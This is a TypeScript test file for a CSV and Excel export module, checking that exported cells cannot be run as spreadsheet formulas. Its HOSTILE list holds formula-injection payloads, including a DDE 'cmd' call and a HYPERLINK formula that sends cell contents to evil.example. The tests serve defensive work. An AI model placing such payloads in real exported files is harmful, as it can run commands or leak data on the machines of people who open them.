import fc from 'fast-check';
import { unzipSync } from 'fflate';
import Papa from 'papaparse';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../shared/exchange/csv.ts';
import type { ExchangeTable, TableCell } from '../../../shared/exchange/exchange-tables.ts';
import { toXlsx } from '../../../shared/exchange/xlsx.ts';
import { assertProperty } from '../../support/assert-property.ts';

const tableOf = (...cells: readonly TableCell[]): ExchangeTable => ({
  name: 'Codings',
  columns: cells.map((_, index) => ({ title: `Column ${index + 1}`, width: 10 })),
  rows: [cells],
});

const HOSTILE: readonly (readonly [string, string])[] = [
  ['a command', "=cmd|' /C calc'!A0"],
  ['a formula', '=HYPERLINK("https://evil.example/?x="&A1,"click")'],
  ['a plus', '+1+1'],
  ['a minus', '-2+3+cmd|x'],
  ['an at', '@SUM(1+1)*cmd'],
  ['a tab', '\t=1+1'],
  ['a carriage return', '\r=1+1'],
  ['a line feed', '\n=1+1'],
  ['white space before it', '   =1+1'],
  ['a formula of two lines', '=1+1\n=2+2'],
  ['a full-width equals sign', '＝1+1'],
  ['a NUL', '\0=1+1'],
  ['a mark of invisible width', '\u200b=1+1'],
];

describe('a table as CSV', () => {
  it.each(HOSTILE)('keeps %s from being calculated', (_, words) => {
    const [, row] = Papa.parse<string[]>(toCsv(tableOf(words)).slice(1).replace(/\r\n$/, '')).data;
    expect(row).toEqual([`'${words}`]);
  });

  it('leaves numbers and innocent words alone', () => {
    const csv = toCsv(tableOf(-2, 0, 1.5, 'We will not assist - ever', 'a=b', '“-2”', null));
    expect(csv.split('\r\n')[1]).toBe('-2,0,1.5,We will not assist - ever,a=b,“-2”,');
  });

  it('has a byte order mark, CRLF at row ends, and cells of several lines whole', () => {
    const csv = toCsv(tableOf('two\nlines', 'a "quoted" word, and more', 'שלום 😀'));
    expect(csv).toBe('\ufeffColumn 1,Column 2,Column 3\r\n"two\nlines","a ""quoted"" word, and more",שלום 😀\r\n');
  });
});

interface Sheet {
  readonly cells: readonly { readonly type: string; readonly value: string; readonly formula: boolean }[];
  readonly frozen: boolean;
  readonly widths: readonly number[];
}

/** The cells of the first sheet below its heading, read by a parser that knows nothing of the writer. */
async function readBack(table: ExchangeTable): Promise<Sheet> {
  const files = unzipSync(await toXlsx([table]));
  const strings: string[] = [];
  parse(files['xl/sharedStrings.xml'], (name, _, text) => {
    if (name === 't') strings.push(text);
  });
  const cells: { type: string; value: string; formula: boolean }[] = [];
  const widths: number[] = [];
  let frozen = false;
  let cell = { type: '', value: '', formula: false };
  parse(
    files['xl/worksheets/sheet1.xml'],
    (name, _attributes, text) => {
      if (name === 'v') cell.value = cell.type === 's' ? (strings[Number(text)] ?? '') : text;
      if (name === 'f') cell.formula = true;
    },
    (name, attributes) => {
      if (name === 'c') {
        cell = { type: attributes.t ?? 'n', value: '', formula: false };
        if (!/^[A-Z]+1$/.test(attributes.r ?? '')) cells.push(cell);
      }
      if (name === 'pane') frozen = attributes.state === 'frozen';
      if (name === 'col') widths.push(Number(attributes.width));
    },
  );
  return { cells, frozen, widths };
}

/** A cell's words as a workbook shows them: `_xHHHH_` is the character of that number (ECMA-376, ST_Xstring). */
const decoded = (value: string): string =>
  value.replace(/_x([0-9a-f]{4})_/gi, (_, number: string) => String.fromCharCode(Number.parseInt(number, 16)));

function parse(
  bytes: Uint8Array | undefined,
  close: (name: string, attributes: Readonly<Record<string, string>>, text: string) => void,
  open: (name: string, attributes: Readonly<Record<string, string>>) => void = () => undefined,
): void {
  const parser = new SaxesParser();
  let text = '';
  let attributes: Readonly<Record<string, string>> = {};
  parser.on('opentag', (tag) => {
    attributes = Object.fromEntries(Object.entries(tag.attributes).map(([key, value]) => [key, String(value)]));
    text = '';
    open(tag.name, attributes);
  });
  parser.on('text', (part) => {
    text += part;
  });
  parser.on('closetag', ({ name }) => {
    close(name, attributes, text);
    text = '';
  });
  parser.write(new TextDecoder().decode(bytes)).close();
}

describe('a table as a workbook', () => {
  it.each(HOSTILE)('holds %s as text and nothing to calculate', async (_, words) => {
    const { cells } = await readBack(tableOf(words));
    // Characters that XML cannot hold are left out; line ends are line feeds.
    const value = words.replace('\0', '').replace('\r', '\n');
    expect(cells).toEqual([{ type: 's', value, formula: false }]);
  });

  it('keeps numbers numbers, has a heading that stays in view and columns as wide as they need', async () => {
    const { cells, frozen, widths } = await readBack(tableOf(-2, 'constructor', '__proto__', 'toString', null));
    expect(cells.map(({ type, value }) => [type, value])).toEqual([
      ['n', '-2'],
      ['s', 'constructor'],
      ['s', '__proto__'],
      ['s', 'toString'],
    ]);
    expect(frozen).toBe(true);
    expect(widths).toEqual([10, 10, 10, 10, 10]);
  });

  it('writes what a workbook would decode so that it reads the same, and cuts what no cell can hold', async () => {
    const { cells } = await readBack(tableOf('see _x0041_ there', 'page one\fpage two', `${'word '.repeat(8000)}end`));
    expect(cells.slice(0, 2).map(({ value }) => value)).toEqual(['see _x005F_x0041_ there', 'page one\npage two']);
    expect(cells[2]?.value.length).toBeLessThanOrEqual(32_767);
    expect(cells[2]?.value).toMatch(/\[cut: a cell can hold no more\]$/);
  });

  it('keeps the mark of a character that could not be read', async () => {
    const { cells } = await readBack(tableOf('will \ufffd assist \ufffd'));
    expect(cells.map(({ value }) => decoded(value))).toEqual(['will \ufffd assist \ufffd']);
  });

  it('holds any words', async () => {
    await assertProperty(
      fc.asyncProperty(
        fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1, maxLength: 8 }),
        async (words) => {
          const { cells } = await readBack(tableOf(...words));
          const kept = words.map((each) =>
            each.replace(/\r\n?|\f/g, '\n').replace(/[^\P{Cc}\t\n]|\p{Cs}|\p{Noncharacter_Code_Point}/gu, ''),
          );
          expect(cells.every(({ type, formula }) => type === 's' && !formula)).toBe(true);
          expect(cells.map(({ value }) => decoded(value))).toEqual(kept);
        },
      ),
      { numRuns: 40 },
    );
  });
});
